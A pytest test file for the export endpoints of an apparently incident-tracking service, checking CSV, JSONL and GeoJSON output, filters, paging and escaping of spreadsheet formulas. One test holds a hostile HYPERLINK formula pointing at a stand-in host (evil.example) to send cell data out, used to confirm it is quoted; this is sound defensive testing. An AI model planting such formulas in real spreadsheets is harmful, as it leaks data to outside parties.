"""Exports: the lists whole, safe in a spreadsheet, right on a map."""

import csv
import io
import json
from typing import Any

import pytest
from sqlalchemy import Engine, event
from starlette.testclient import TestClient

from services.store import api_exports
from services.store.exports import cell
from shared.messages import Place
from tests.integration.shown.rows import add_incident, article, raise_alert, tell
from tests.integration.shown.samples import Sample
from tests.integration.shown.test_api_lists import add_much

LISTS = ["incidents", "demands", "claims", "figures", "alerts"]


@pytest.fixture
def three_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Exports of more than three rows take several pages."""
    monkeypatch.setattr(api_exports, "AT_ONCE", 3)


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", LISTS)
def test_json_lines_hold_every_row_of_the_list_as_the_list_answers_it(
    client: TestClient, engine: Engine, sample: Sample, three_at_once: None, name: str
) -> None:
    add_much(engine, "more", 7, minute=10)
    listed = client.get(f"/{name}", params={"limit": 200}).json()["items"]
    answer = client.get(f"/{name}.jsonl")
    written = [json.loads(line) for line in answer.text.splitlines()]
    assert [{k: v for k, v in one.items() if k != "proof"} for one in written] == listed
    assert len(listed) > 15
    assert answer.headers["content-disposition"] == f'attachment; filename="shahidi-{name}.jsonl"'


@pytest.mark.parametrize("name", LISTS)
def test_csv_has_a_header_and_one_row_each(
    client: TestClient, engine: Engine, sample: Sample, three_at_once: None, name: str
) -> None:
    add_much(engine, "more", 7, minute=10)
    listed = client.get(f"/{name}", params={"limit": 200}).json()["items"]
    key = f"{name[:-1]}_id"
    assert [row[key] for row in table(client.get(f"/{name}.csv").text)] == [one[key] for one in listed]


def test_an_incident_is_exported_with_its_toll_its_place_and_the_words_that_prove_it(
    client: TestClient, sample: Sample
) -> None:
    (row,) = table(client.get("/incidents.csv", params={"place": "kisumu"}).text)
    assert (row["killed_low"], row["killed_best"], row["killed_high"]) == ("2", "2", "4")
    assert (row["injured_low"], row["injured_high"], row["missing_low"]) == ("5", "", "")
    assert (row["date_start"], row["place"], row["perpetrators"]) == ("2024-07-03", "Kondele, Kisumu", "police")
    shown = client.get(f"/articles/{row['article_id']}", params={"version": row["article_version"]}).json()
    assert shown["text"][int(row["evidence_start"]) : int(row["evidence_end"])] == row["evidence"] != ""


def test_an_export_passes_the_same_filters_as_its_list(client: TestClient, sample: Sample) -> None:
    for name, params in [
        ("incidents", {"status": "reported"}), ("demands", {"status": "joined"}), ("claims", {"kind": "denial"}),
        ("figures", {"role": "cumulative"}), ("alerts", {"kind": "new_demand"}),
    ]:  # fmt: skip
        listed = client.get(f"/{name}", params=params).json()["items"]
        assert len(client.get(f"/{name}.jsonl", params=params).text.splitlines()) == len(listed) > 0


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/incidents.csv?country=Kenya", "country"),
        ("/incidents.csv?limit=5", "limit"),  # an export is whole
        ("/incidents.pdf", "format"),
        ("/alerts.geojson", "format"),  # an alert has no place of its own
        ("/claims.csv?kind=wish", "kind"),
    ],
)
def test_a_wrong_field_is_a_problem_and_not_half_a_file(client: TestClient, path: str, field: str) -> None:
    answer = client.get(path)
    assert (answer.status_code, answer.headers["content-type"]) == (422, "application/problem+json")
    assert [error["field"] for error in answer.json()["errors"]] == [field]


def test_a_map_holds_every_incident_and_points_where_they_are_known(client: TestClient, engine: Engine) -> None:
    with engine.begin() as db:
        add_incident(db, "there", 1, place=Place(text="Kibra", country="KE", lat=-1.31, lon=36.78, precision="town"))
        add_incident(db, "somewhere", 2)
    answer = client.get("/incidents.geojson")
    found = answer.json()
    assert (answer.headers["content-type"], found["type"]) == ("application/geo+json", "FeatureCollection")
    by_id: dict[str, Any] = {feature["id"]: feature for feature in found["features"]}
    assert by_id["there"]["geometry"] == {"type": "Point", "coordinates": [36.78, -1.31]}  # longitude first
    assert by_id["there"]["properties"]["place"] == "Kibra"
    assert by_id["somewhere"]["geometry"] is None
    assert client.get("/incidents.geojson?country=UG").json()["features"] == []


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        " =1",
        "\u200b=1",
        "\ufeff@A",
    ],
)
def test_a_text_that_a_spreadsheet_would_calculate_is_only_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["2 killed", "a=b", "", None, -1.31, -3, "“=”", "'=1"])
def test_everything_else_stays_as_it_is(value: object) -> None:
    assert cell(value) == value


def test_hostile_words_arrive_quoted_in_csv_and_untouched_in_json(client: TestClient, engine: Engine) -> None:
    hostile = '=HYPERLINK("http://evil.example?"&A1,"read on");@x\n＝1'
    said = article("a", "Two died.", publisher=hostile)
    with engine.begin() as db:
        tell(db, said)
        raise_alert(db, 1, said, "Two died.", headline=hostile, reason='"', speaker="=a,\t=b", action="-1\r=1")
        add_incident(db, "i", place=Place(text=hostile, lat=-1.3, lon=36.8))
    (row,) = table(client.get("/alerts.csv").text)
    assert row["headline"] == row["publisher"] == f"'{hostile}"
    assert (row["speaker"], row["action"], row["reason"]) == ("'=a,\t=b", "'-1\r=1", '"')
    (place,) = table(client.get("/incidents.csv").text)
    assert (place["place"], place["lat"]) == (f"'{hostile}", "-1.3")
    assert client.get("/alerts.jsonl").json()["headline"] == hostile
    assert client.get("/incidents.geojson").json()["features"][0]["properties"]["place"] == hostile


def test_an_export_reads_page_by_page_and_holds_no_connection_between(
    client: TestClient, engine: Engine, three_at_once: None
) -> None:
    add_much(engine, "old", 1, minute=10)
    taken: list[str] = []
    event.listen(engine, "checkout", lambda *_: taken.append("out"))
    event.listen(engine, "checkin", lambda *_: taken.append("in"))
    assert len(client.get("/incidents.jsonl").text.splitlines()) == 15
    assert taken == ["out", "in"] * (len(taken) // 2)
    assert len(taken) >= 10
